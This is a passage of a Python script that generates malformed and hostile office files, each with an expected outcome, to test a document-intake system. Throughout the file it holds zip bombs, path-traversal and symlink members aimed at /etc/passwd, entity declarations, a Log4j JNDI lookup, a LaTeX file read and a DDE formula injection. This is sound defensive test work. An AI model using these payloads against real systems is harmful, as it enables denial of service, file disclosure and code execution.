                part_relations=relations(*(relation(n, "header", f"header{n}.xml") for n in numbers)),
                parts=[(f"word/header{n}.xml", header(n)) for n in numbers])


def encrypted_ods():
    """A spreadsheet of LibreOffice with a password: its content is no XML."""
    office = "urn:oasis:names:tc:opendocument:xmlns"
    manifest = (f'{XML}<manifest:manifest xmlns:manifest="{office}:manifest:1.0"><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="900">'
                '<manifest:encryption-data/></manifest:file-entry></manifest:manifest>')
    return package([Member("mimetype", "application/vnd.oasis.opendocument.spreadsheet", method=0),
                    ("content.xml", bytes(range(256)) * 2), ("META-INF/manifest.xml", manifest)])


NUMBERS = ('<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="{kind}"/>'
           '<w:lvlText w:val="{text}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>')
NUMBERED = f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{{level}}"/><w:numId w:val="1"/></w:numPr></w:pPr>{run("编号")}</w:p>'
BIG_PNG = PNG[:16] + struct.pack(">2I", 100_000, 100_000) + PNG[24:]

# Others in the same classes, of our own invention.
files({
    "own-encrypted-member.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), flags=1))),
    "own-encrypted-package.docx": ("refuse", lambda: compound("EncryptionInfo", "EncryptedPackage")),
    "own-xls-cut.xlsx": ("refuse", lambda: compound("Workbook")),
    "own-rtf-named.docx": ("refuse", lambda: b"{\\rtf1\\ansi " + TITLE.encode("gbk") + b"}"),
    "own-odt-named.docx": ("refuse", lambda: package([Member("mimetype", "application/vnd.oasis.opendocument.text", method=0), ("content.xml", "<x/>")])),
    "own-gzip-named.docx": ("refuse", lambda: b"\x1f\x8b\x08" + bytes(100)),
    "own-png-named.docx": ("refuse", lambda: PNG),
    "own-mz-before.docx": ("refuse register", lambda: docx(before=b"MZ" + bytes(510))),
    "own-zip64.docx": ("register refuse", lambda: zip64(True)),
    "own-zip64-far.docx": ("refuse", lambda: zip64(False)),
    "own-count-lies.docx": ("refuse register", lambda: docx(count=60_000)),
    "own-streamed-members.docx": ("register", lambda: package([
        Member(name, data, flags=8) for name, data in [("[Content_Types].xml", content_types()), ("_rels/.rels", root()), ("word/document.xml", document())]])),
    "own-stored-members.docx": ("register", lambda: package([
        Member(name, data, method=0) for name, data in [("[Content_Types].xml", content_types()), ("_rels/.rels", root()), ("word/document.xml", document())]])),
    "own-folder-members.docx": ("register", lambda: docx(parts=[Member("word/", b"", method=0), Member("docProps/", b"", method=0)])),
    "own-many-members.docx": ("refuse", lambda: docx(parts=[(f"word/media/{n}.bin", b"") for n in range(20_000)])),
    "own-link-member.docx": ("register refuse", lambda: docx(parts=[Member("word/media/x.png", "/etc/passwd", attributes=0o120777 << 16)])),
    "own-absolute-member.docx": ("register refuse", lambda: docx(parts=[("/etc/minyi-absolute", "out")])),
    "own-drive-member.docx": ("register refuse", lambda: docx(parts=[("C:\\minyi-drive.txt", "out")])),
    "own-nul-member.docx": ("register refuse", lambda: docx(parts=[(b"word/document.xml\0.txt", "x")])),
    "own-empty-member-name.docx": ("register refuse", lambda: docx(parts=[(b"", "x")])),
    "own-deflate-garbage.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), raw=b"\xFF" * 500))),
    "own-deflate-cut.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), raw=Member("", document()).packed()[:-20]))),
    "own-bomb-document.docx": ("refuse", lambda: docx(document(letter(more=" " * (300 * MIB))))),
    "own-bomb-image.docx": ("refuse flag", lambda: with_picture(("word/media/image1.png", PNG + bytes(600 * MIB)))),
    "own-bomb-text.docx": ("refuse register flag", lambda: docx(document(letter(more=paragraph("长" * (18 * MIB)))))),
    "own-bomb-attribute.docx": ("refuse", lambda: docx(document(letter(more=f'<w:p w:rsidR="{"0" * (40 * MIB)}"/>')))),
    "own-bomb-comment.docx": ("refuse register", lambda: docx(document(letter(more=f'<!--{"0" * (40 * MIB)}-->')))),
    "own-bomb-runs.docx": ("refuse register", lambda: docx(document(letter(more=f'<w:p>{run("字") * 900_000}</w:p>')))),
    "own-bomb-rels.docx": ("refuse register flag", lambda: docx(part_relations=relations(*(relation(n, "image", f"media/{n}.png") for n in range(300_000))))),
    "own-bomb-types.docx": ("refuse register", lambda: docx(types=content_types(more="".join(
        f'<Override PartName="/x{n}" ContentType="a/b"/>' for n in range(300_000))))),
    "own-bomb-styles.docx": ("refuse register", lambda: styled("".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(200_000)),
        '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr>' + run("深样式") + "</w:p>")),
    "own-style-cycle.docx": ("register", lambda: styled(
        '<w:style w:type="paragraph" w:styleId="a"><w:name w:val="a"/><w:basedOn w:val="b"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="b"><w:name w:val="b"/><w:basedOn w:val="a"/></w:style>',
        '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr>' + run("循环样式") + "</w:p>")),
    "own-numbering-huge.docx": ("register", lambda: numbered(NUMBERS.format(start=2147483647, kind="chineseCounting", text="%1、"), NUMBERED.format(level=0) * 3)),
    "own-numbering-roman.docx": ("register", lambda: numbered(NUMBERS.format(start=2147483647, kind="upperRoman", text="%1.%2.%9"), NUMBERED.format(level=0) * 3)),
    "own-numbering-level.docx": ("register", lambda: numbered(NUMBERS.format(start=1, kind="decimal", text="%1" * 5000), NUMBERED.format(level=4_000_000_000))),
    "own-doctype-only.docx": ("refuse", lambda: docx(document(before="<!DOCTYPE x>"))),
    "own-doctype-styles.docx": ("refuse flag", lambda: docx(
        types=content_types(more=f'<Override PartName="/word/styles.xml" ContentType="{WORD_TYPE}.styles+xml"/>'),
        part_relations=relations(relation(1, "styles", "styles.xml")),
        parts=[("word/styles.xml", f'{XML}<!DOCTYPE x [<!ENTITY a "b">]><w:styles xmlns:w="{W}"/>')])),
    "own-deep-closed.docx": ("refuse", lambda: docx(document(letter(more=nested("sdt", 100_000, paragraph("底")))))),
    "own-deep-text-boxes.docx": ("refuse register", lambda: docx(document(letter(more=text_boxes(60))))),
    "own-deep-alternates.docx": ("refuse register", lambda: docx(document(letter(more=alternates(60))))),
    "own-bom.docx": ("register", lambda: docx(b"\xEF\xBB\xBF" + document().encode())),
    "own-strict.docx": ("register", lambda: docx(
        document().replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main").replace(R, "http://purl.oclc.org/ooxml/officeDocument/relationships"),
        root_relations=relations(relation(1, "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", "word/document.xml")))),
    "own-grid-span.docx": ("register flag refuse", lambda: docx(document(letter(more=
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>' + paragraph("宽") + "</w:tc></w:tr>"
        '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="-5"/><w:vMerge/></w:tcPr>' + paragraph("负") + "</w:tc></w:tr></w:tbl>")))),
    "own-picture-size-lies.docx": ("register flag", lambda: with_picture(("word/media/image1.png", BIG_PNG))),
    "own-picture-missing.docx": ("register flag", lambda: with_picture(("word/media/other.png", PNG))),
    "own-picture-outside.docx": ("register flag refuse", lambda: docx(document(letter(more=picture())),
        part_relations=relations(relation(1, "image", "../../../etc/passwd")))),
    "own-sub-document.docx": ("flag refuse", lambda: linked("subDocument", "file://192.0.2.1/x.docx", SUB_DOCUMENT)),
    "own-long-hyperlink.docx": ("register flag refuse", lambda: linked("hyperlink", "http://192.0.2.1/" + "a" * 900_000, HYPERLINK)),
    "own-template-text.docx": ("register", lambda: docx(document(letter("关于{{ 标题 }}的建议", [*LINES[:2], "{% for x in range(1000000000) %}{{ x }}{% endfor %}", "${jndi:ldap://192.0.2.1/a} \\input{/etc/passwd}"])))),
    "own-only-deleted.docx": ("refuse", lambda: docx(document('<w:p><w:del w:id="1" w:author="a"><w:r><w:delText>删</w:delText></w:r></w:del></w:p>'))),
    "own-ods-repeated.xlsx": ("refuse register flag", lambda: ods(ods_row(HEADER) + ods_row(ROW) + ods_row(
        ["满"], ' table:number-rows-repeated="1048570"', ' table:number-columns-repeated="16384"'))),
    "own-ods-repeat-lies.xlsx": ("refuse register", lambda: ods(ods_row(HEADER) + ods_row(ROW) + ods_row(
        ["满"], ' table:number-rows-repeated="18446744073709551615"', ' table:number-columns-repeated="4294967295"'))),
    "own-xl-shared-long.xlsx": ("refuse register", lambda: xlsx([sheet(shared_rows() + "".join(
        f'<row r="{n}">{shared(6, f"F{n}")}</row>' for n in range(3, 12_003)))], strings([*HEADER, *ROW, "长" * MIB]))),
    "own-xl-dimension-lies.xlsx": ("register", lambda: xlsx([sheet(before='<dimension ref="A1:XFD1048576"/>')])),
    "own-xl-numbers-odd.xlsx": ("register refuse", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) + '<row r="3">' + "".join(
        f'<c r="{column(at + 4)}3"><v>{value}</v></c>' for at, value in enumerate(["1e308", "-1e999", "NaN", "inf", "0x10", "", "-1"])) + "</row>")])),
    "own-xl-rows-backwards.xlsx": ("register refuse", lambda: xlsx([sheet(row(5, ROW) + row(1, HEADER) + row(5, ROW) + row(2, ROW))])),
    "own-xl-row-zero.xlsx": ("register refuse", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) + row(0, ROW) + row(4_294_967_296, ROW))])),
    "own-xl-styles-many.xlsx": ("register refuse", lambda: xlsx(styles=f'{XML}<styleSheet xmlns="{S}"><cellXfs count="4294967295">{"<xf numFmtId=&quot;14&quot;/>".replace("&quot;", chr(34)) * 200_000}</cellXfs></styleSheet>')),
    "own-xl-sheet-missing.xlsx": ("refuse register flag", lambda: xlsx(workbook_relations=relations(relation(1, "worksheet", "worksheets/none.xml")))),
    "own-xl-sheet-outside.xlsx": ("refuse", lambda: xlsx(workbook_relations=relations(relation(1, "worksheet", "../../../../etc/passwd")))),
    "own-xl-sheet-name.xlsx": ("register", lambda: xlsx(names=["../../etc/passwd' !A1"])),
    "own-xl-wide.xlsx": ("register refuse flag", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) + "".join(
        f'<row r="{n}">{"".join(f"<c><v>{at}</v></c>" for at in range(2000))}</row>' for n in range(3, 603)))])),
    "own-xl-deep.xlsx": ("refuse", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) + "<a>" * 100_000 + "</a>" * 100_000)])),
    "own-xl-unclosed.xlsx": ("refuse", lambda: xlsx([sheet().replace("</sheetData></worksheet>", "")])),
    "own-prefix-undeclared.docx": ("refuse", lambda: docx(document(letter(more="<zz:x/>")))),
    "own-two-declarations.docx": ("refuse", lambda: docx(XML + document())),
    "own-bomb-declared.docx": ("refuse", lambda: docx(bomb("word/document.xml", 1024))),
    "own-bomb-size-lie.docx": ("refuse", lambda: docx(bomb("word/document.xml", 1024, size=10))),
    "own-picture-unused-bad.docx": ("refuse flag", lambda: docx(parts=[Member("word/media/image1.png", PNG, crc=1)])),
    "own-picture-unused-bomb.docx": ("refuse flag", lambda: docx(parts=[bomb("word/media/image1.png", 600)])),
    "own-headers-heavy.docx": ("refuse register flag", headers_heavy),
    "own-text-30mb.docx": ("register flag refuse", lambda: docx(document(letter(more=paragraph("停车难" * 3_400_000))))),
    "own-breaks-many.docx": ("register flag refuse", lambda: docx(document(letter(more=f'<w:p><w:r>{"<w:br/>" * 500_000}</w:r></w:p>')))),
    "own-paragraphs-190k.docx": ("register flag refuse", lambda: docx(document(letter(more="".join(
        f"<w:p><w:r><w:t>第{n}段</w:t></w:r></w:p>" for n in range(190_000)))))),
    "own-ods-repeat-rows.ods": ("refuse register flag", lambda: ods(ods_row(HEADER) + ods_row(ROW) + ods_row(
        ["关于"], ' table:number-rows-repeated="2147483647"'))),
    "own-ods-encrypted.ods": ("refuse", encrypted_ods),
    "own-xl-papers-200k.xlsx": ("register flag", lambda: xlsx([sheet(row(1, HEADER) + "".join(
        row(n, [f"关于第{n}件事的建议", "张三", LINES[2]]) for n in range(2, 200_002)))])),
    "own-xl-faults-300k.xlsx": ("register flag", lambda: xlsx([sheet(row(1, HEADER) + "".join(
        row(n, [f"关于第{n}件事的建议", "", ""]) for n in range(2, 300_002)))])),
    "own-xl-cells-2500k.xlsx": ("register flag refuse", lambda: xlsx([sheet(row(1, HEADER) + row(2, ROW) + "".join(
        f'<row r="{n}">{"<c><v>1</v></c>" * 16}</row>' for n in range(3, 156_003)))])),
})


def first_of(content):
    """A package whose first local header is overwritten."""
    return bytes(30) + content[30:]


def divided(content):
    """An end record that speaks of a second disk."""
    at = content.rindex(b"PK\5\6")
    return content[: at + 4] + struct.pack("<2H", 1, 1) + content[at + 8 :]


def three(types=None, links=None, main=None, **lies):
    """The three members that a document needs, all with the same lies."""
    return package([Member("[Content_Types].xml", types or content_types(), **lies), Member("_rels/.rels", links or root(), **lies),
                    Member("word/document.xml", main or document(), **lies)])


def noted(note, reference='<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', **lies):
    """A document with one footnote."""
    types = content_types(more=f'<Override PartName="/word/footnotes.xml" ContentType="{WORD_TYPE}.footnotes+xml"/>')
    return docx(document(letter(more=reference)), types=types, part_relations=relations(relation(1, "footnotes", "footnotes.xml")),
                parts=[Member("word/footnotes.xml", f'{XML}<w:footnotes xmlns:w="{W}"><w:footnote w:id="2">{note}</w:footnote></w:footnotes>', **lies)])


def with_pictures(number, image, each=True):
    """Pictures in paragraphs of their own, of one part each or all of the same part."""
    shown = range(1, number + 1) if each else [1] * number
    parts = range(1, number + 1) if each else [1]
    return docx(document(letter(more="".join(picture(n) for n in shown))),
                part_relations=relations(*(relation(n, "image", f"media/i{n}.png") for n in parts)),
                parts=[Member(f"word/media/i{n}.png", image(n)) for n in parts])


def workbook_of(sheets, more="", before=""):
    """The workbook part, its sheets as (name, more attributes)."""
    listed = "".join(f'<sheet name="{name}" sheetId="{at}" r:id="rId{at}"{odd}/>' for at, (name, odd) in enumerate(sheets, 1))
    return f'{XML}<workbook xmlns="{S}" xmlns:r="{R}">{before}<sheets>{listed}</sheets>{more}</workbook>'


DATES = f'{XML}<styleSheet xmlns="{S}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'


def dated_row(serial, before=""):
    """A batch sheet whose date is a serial number."""
    cells = "".join(cell(text, f"{column(at)}2") for at, text in enumerate(ROW))
    return xlsx([sheet(row(1, [*HEADER, "日期"]) + f'<row r="2">{cells}<c r="D2" s="1"><v>{serial}</v></c></row>')], styles=DATES,
                workbook=workbook_of([("表", "")], before=before))


def formulas(*cells):
    """A sheet whose second row holds formulas and the third a sound paper."""
    return xlsx([sheet(row(1, HEADER) + f'<row r="2">{"".join(cells)}</row>' + row(3, ROW))])


TABLE = "<w:tbl>{}</w:tbl>".format
CELL = f"<w:tc>{paragraph('格')}</w:tc>"
NO_END = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
PICTURES = lambda number: PNG + bytes([number]) * (4 * MIB)

# What else came to mind: tricks of the container, of the package, of XML, of Word and of Excel.
files({
    "odd-twin-exact.docx": ("refuse", lambda: docx(parts=[("word/document.xml", document(letter("关于另一份的建议")))])),
    "odd-crc-theme.docx": ("flag refuse", lambda: docx(parts=[Member("word/theme/theme1.xml", "<a/>", crc=7)])),
    "odd-doctype-theme.docx": ("refuse", lambda: docx(parts=[("word/theme/theme1.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><a/>")])),
    "odd-crc-notes.docx": ("flag refuse", lambda: noted(paragraph("注"), crc=7)),
    "odd-encrypted-all.docx": ("refuse", lambda: three(flags=1)),
    "odd-encrypted-image.docx": ("refuse flag", lambda: docx(parts=[Member("word/media/a.png", PNG, flags=1)])),
    "odd-method-deflate64.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), method=9))),
    "odd-method-zstd.docx": ("refuse", lambda: docx(Member("word/document.xml", document(), method=93))),
    "odd-comment-full.docx": ("register refuse", lambda: docx(comment=b"x" * 65_535)),
    "odd-text-before.docx": ("refuse", lambda: docx(before=b"hello\r\n")),
    "odd-two-archives.docx": ("refuse", lambda: docx() + docx(document(letter("关于第二份的建议")))),
    "odd-first-header-gone.docx": ("refuse", lambda: first_of(docx())),
    "odd-divided.docx": ("refuse", lambda: divided(docx())),
    "odd-dots-in-name.docx": ("refuse", lambda: docx(parts=[("word/../../x.txt", "out")])),
    "odd-streamed-stored.docx": ("register refuse", lambda: three(flags=8, method=0)),
    "odd-zip-of-papers.docx": ("refuse", lambda: package([("关于停车.docx", docx()), ("关于路灯.docx", docx())])),
    "odd-percent-part.docx": ("register", lambda: package([
        ("[Content_Types].xml", content_types(part="/word/%E6%96%87.xml")), ("_rels/.rels", root("word/%E6%96%87.xml")), ("word/%E6%96%87.xml", document())])),
    "odd-case-of-target.docx": ("register", lambda: docx(root_relations=root("Word/Document.xml"))),
    "odd-dots-in-target.docx": ("register", lambda: docx(root_relations=root("./word/../word/document.xml"))),
    "odd-target-outside.docx": ("refuse", lambda: docx(root_relations=root("../../word/document.xml"))),
    "odd-target-missing.docx": ("refuse", lambda: docx(root_relations=root("word/nothing.xml"))),
    "odd-links-broken.docx": ("refuse", lambda: docx(root_relations=root().replace("</Relationships>", ""))),
    "odd-part-links-broken.docx": ("flag refuse", lambda: docx(part_relations="<Relationships>")),
    "odd-types-broken.docx": ("refuse", lambda: docx(types=content_types().replace("</Types>", ""))),
    "odd-dotm.docx": ("refuse", lambda: docx(types=content_types("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"))),
    "odd-slides.docx": ("refuse", lambda: docx(types=content_types(
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "/ppt/presentation.xml"),
        root_relations=root("ppt/presentation.xml"), parts=[("ppt/presentation.xml", "<p/>")])),
    "odd-ofd.docx": ("refuse", lambda: package([("OFD.xml", "<ofd/>"), ("Doc_0/Document.xml", "<a/>")])),
    "odd-word-xml.doc": ("refuse", lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="urn:w"/>'),
    "odd-rar.docx": ("refuse", lambda: b"Rar!\x1a\x07\x01\0" + bytes(100)),
    "odd-phone-picture.docx": ("refuse", lambda: b"\0\0\0\x18ftypheic" + bytes(100)),
    "odd-mail.docx": ("refuse", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"),
    "odd-slides-old.docx": ("refuse", lambda: compound("PowerPoint Document", "Current User")),
    "odd-compound-head.xls": ("refuse", lambda: b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"),
    "odd-csv.xlsx": ("refuse", lambda: ("\ufeff" + ",".join(HEADER) + "\r\n" + ",".join(ROW)).encode()),
    "odd-page.xls": ("refuse", lambda: "<html><table><tr><td>标题</td></tr></table></html>".encode()),
    "odd-named.pdf": ("register", lambda: docx(comment=b"named")),
    "odd-utf16-bare.docx": ("register refuse", lambda: encoded("utf-16-le", "UTF-16")),
    "odd-utf16-cut.docx": ("refuse", lambda: docx(b"\xff\xfe" + document().encode("utf-16-le") + b"a")),
    "odd-utf32.docx": ("refuse", lambda: encoded("utf-32", "UTF-32")),
    "odd-entity-unknown.docx": ("refuse", lambda: raw("老城区".encode(), b"&nbsp;")),
    "odd-surrogates.docx": ("refuse", lambda: docx(document(letter("关于&#xD83D;&#xDE97;的建议")))),
    "odd-rare-characters.docx": ("register", lambda: titled("关于𠮷&#x20000;𰻝巷停车难的建议")),
    "odd-namespace-rebound.docx": ("register", lambda: docx(document(letter(more='<w:p xmlns:w="urn:other"><w:r><w:t>别的</w:t></w:r></w:p>')))),
    "odd-namespace-wrong.docx": ("refuse", lambda: docx(document().replace(W, "urn:wrong"))),
    "odd-root-wrong.docx": ("refuse", lambda: docx(f'{XML}<w:hdr xmlns:w="{W}">{letter()}</w:hdr>')),
    "odd-name-giant.docx": ("refuse", lambda: docx(document(letter(more=f'<{"a" * (2 * MIB)}/>')))),
    "odd-references-many.docx": ("register", lambda: docx(document(letter(more=paragraph("&#20013;" * 500_000))))),
    "odd-instructions-many.docx": ("register refuse", lambda: docx(document(letter(more="<?a b?>" * 500_000)))),
    "odd-body-empty.docx": ("refuse", lambda: docx(document(""))),
    "odd-only-pictures.docx": ("refuse", lambda: docx(document(picture()), part_relations=relations(relation(1, "image", "media/a.png")), parts=[("word/media/a.png", PNG)])),
    "odd-only-text-box.docx": ("register refuse", lambda: docx(document(f"<w:p><w:r><w:pict><w:txbxContent>{letter()}</w:txbxContent></w:pict></w:r></w:p>"))),
    "odd-only-chunk.docx": ("refuse", lambda: docx(document(ALT_CHUNK), part_relations=relations(relation(1, "aFChunk", "c.html")), parts=[("word/c.html", "<p>x</p>")])),
    "odd-only-hidden.docx": ("refuse", lambda: docx(document(letter().replace("<w:r>", "<w:r><w:rPr><w:vanish/></w:rPr>")))),
    "odd-activex.docx": ("flag refuse", lambda: docx(document(letter(more='<w:p><w:r><w:control r:id="rId1"/></w:r></w:p>')),
        part_relations=relations(relation(1, "control", "activeX/a.xml")), parts=[("word/activeX/a.xml", "<ocx/>")])),
    "odd-note-cycle.docx": ("register flag", lambda: noted('<w:p><w:r><w:t>注</w:t><w:footnoteReference w:id="2"/></w:r></w:p>')),
    "odd-note-many-times.docx": ("register flag refuse", lambda: noted(paragraph("注" * 10_000), '<w:p>' + '<w:r><w:footnoteReference w:id="2"/></w:r>' * 20_000 + '</w:p>')),
    "odd-field-open.docx": ("register flag", lambda: docx(document(f"<w:p>{NO_END}</w:p>" + letter()))),
    "odd-fields-nested.docx": ("register flag", lambda: docx(document(letter(more=f"<w:p>{NO_END * 5000}</w:p>")))),
    "odd-numbering-cycle.docx": ("register", lambda: numbered(
        '<w:abstractNum w:abstractNumId="0"><w:styleLink w:val="a"/><w:numStyleLink w:val="a"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
        NUMBERED.format(level=0))),
    "odd-paragraph-1m.docx": ("register", lambda: docx(document(letter(more=paragraph("停车难" * 333_334))))),
    "odd-table-20k.docx": ("register", lambda: docx(document(letter(more=TABLE(f"<w:tr>{CELL * 20}</w:tr>" * 1000))))),
    "odd-table-wide.docx": ("register", lambda: docx(document(letter(more=TABLE(f"<w:tr>{CELL * 20_000}</w:tr>"))))),
    "odd-table-hollow.docx": ("register", lambda: docx(document(letter(more=TABLE("") + TABLE("<w:tr/>") + TABLE("<w:tr><w:tc/></w:tr>"))))),
    "odd-labels-20k.docx": ("register flag", lambda: docx(document(letter(more=paragraph("反映人：李四") * 20_000)))),
    "odd-pictures-120mb.docx": ("register flag refuse", lambda: with_pictures(30, PICTURES)),
    "odd-pictures-200mb.docx": ("refuse", lambda: with_pictures(4, lambda number: PNG + bytes([number]) * 100 + (bytes(range(256)) * 64 + bytes(48_000)) * (50 * MIB // 64_384))),
    "odd-pictures-3000.docx": ("register", lambda: with_pictures(3000, lambda number: PNG + number.to_bytes(2, "big"))),
    "odd-title-path.docx": ("register", lambda: titled("../../etc/passwd关于停车的建议")),
    "odd-title-reserved.docx": ("register", lambda: titled("关于a/b\\c:d*e?f&quot;g&lt;h&gt;i|j的建议")),
    "odd-title-dots.docx": ("register", lambda: titled("关于停车的建议......")),
    "odd-title-300.docx": ("flag register", lambda: titled("关于" + "停车难" * 100 + "的建议")),
    "odd-title-marks.docx": ("flag register", lambda: titled("关于停" + "\u0301" * 5000 + "车的建议")),
    "odd-title-tags.docx": ("register", lambda: titled("关于{{ 标题 }}{% if x %}的建议")),
    "odd-author-formula.docx": ("register", lambda: docx(document(letter(lines=["反映人：=cmd|'/c calc'!A1", *LINES[1:]])))),
    "odd-author-path.docx": ("register", lambda: docx(document(letter(lines=["反映人：../../张三", "工作单位及职务：../x/CON", *LINES[2:]])))),
    "odd-authors-many.docx": ("register flag", lambda: docx(document(letter(lines=["反映人：" + "张三、" * 5000, *LINES[1:]])))),
    "odd-xl-1904.xlsx": ("register", lambda: dated_row(44_627, '<workbookPr date1904="1"/>')),
    "odd-xl-date-negative.xlsx": ("flag register", lambda: dated_row(-5)),
    "odd-xl-date-huge.xlsx": ("flag register", lambda: dated_row("99999999999")),
    "odd-xl-errors.xlsx": ("register flag", lambda: formulas('<c r="A2" t="e"><v>#REF!</v></c><c r="B2" t="e"><v>#WHAT</v></c>')),
    "odd-xl-formula-bare.xlsx": ("flag", lambda: formulas('<c r="A2"><f>B2</f></c><c r="B2"><f>A2</f><v/></c>')),
    "odd-xl-formula-shared.xlsx": ("register flag", lambda: formulas('<c r="D2"><f t="shared" ref="D2:D3" si="0">D3</f><v>1</v></c><c r="E2"><f t="shared" si="99"/><v>1</v></c>')),
    "odd-xl-merged-all.xlsx": ("register", lambda: xlsx([sheet(after='<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="Z9:A1"/><mergeCell/></mergeCells>')])),
    "odd-xl-sheet-hidden.xlsx": ("flag", lambda: xlsx([sheet(), sheet()], workbook=workbook_of([("表", ""), ("暗", ' state="veryHidden"')]))),
    "odd-xl-all-hidden.xlsx": ("refuse", lambda: xlsx(workbook=workbook_of([("暗", ' state="hidden"')]))),
    "odd-xl-sheets-255.xlsx": ("register", lambda: xlsx([sheet(row(1, HEADER) + row(2, [f"关于第{n}表的建议", "张三", LINES[2]])) for n in range(255)])),
    "odd-xl-header-alone.xlsx": ("refuse", lambda: xlsx([sheet(row(1, HEADER))])),
    "odd-xl-no-sheet.xlsx": ("refuse", lambda: xlsx(workbook=workbook_of([]))),
    "odd-xl-no-data.xlsx": ("refuse", lambda: xlsx([f'{XML}<worksheet xmlns="{S}"/>'])),
    "odd-xl-escapes.xlsx": ("register flag", lambda: xlsx([sheet(row(1, HEADER) + row(2, [TITLE + "_x0001__x000D_", "张三", LINES[2]]))])),
    "odd-xl-cell-long.xlsx": ("register flag", lambda: xlsx([sheet(row(1, HEADER) + row(2, [TITLE, "张三", "停车难\n" * 20_000]))])),
    "odd-xl-names-twice.xlsx": ("register flag", lambda: xlsx([sheet(), sheet()], names=["表", "表"])),
    "odd-xl-names-100k.xlsx": ("register flag", lambda: xlsx(workbook=workbook_of(
        [("表", "")], '<definedNames>' + '<definedName name="a">x!$A$1</definedName>' * 100_000 + '</definedNames>'))),
    "odd-xl-wide-header.xlsx": ("register flag refuse", lambda: xlsx([sheet(row(1, HEADER + [f"列{n}" for n in range(16_000)]) + row(2, ROW + ["x"] * 16_000))])),
    "odd-xl-template.xlsx": ("register", lambda: xlsx(main=f"{SHEET_TYPE}.template.main+xml")),
    "odd-xl-utf16.xlsx": ("register refuse", lambda: xlsx([sheet().replace("UTF-8", "UTF-16").encode("utf-16")])),
    "odd-xl-binary-broken.xlsb": ("refuse", lambda: package([
        ("[Content_Types].xml", content_types("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "/xl/workbook.bin")),
        ("_rels/.rels", root("xl/workbook.bin")), ("xl/workbook.bin", b"\xff" * 100)])),
    "odd-ods-sound.ods": ("register", lambda: ods(ods_row(HEADER) + ods_row(ROW))),
    "odd-ods-rows-empty.ods": ("register", lambda: ods(ods_row(HEADER) + ods_row(ROW)
        + '<table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>')),
    "odd-ods-columns.ods": ("refuse register flag", lambda: ods(ods_row(HEADER) + ods_row(ROW) + ods_row(["x"], column_repeat=' table:number-columns-repeated="4294967295"'))),
})
# One drop may not take a year's numbers: `run` returns what holds more papers than it may, and all of whose rows are bad.
RETURNED_BY_RUN = {"own-xl-papers-200k.xlsx", "own-xl-faults-300k.xlsx"}
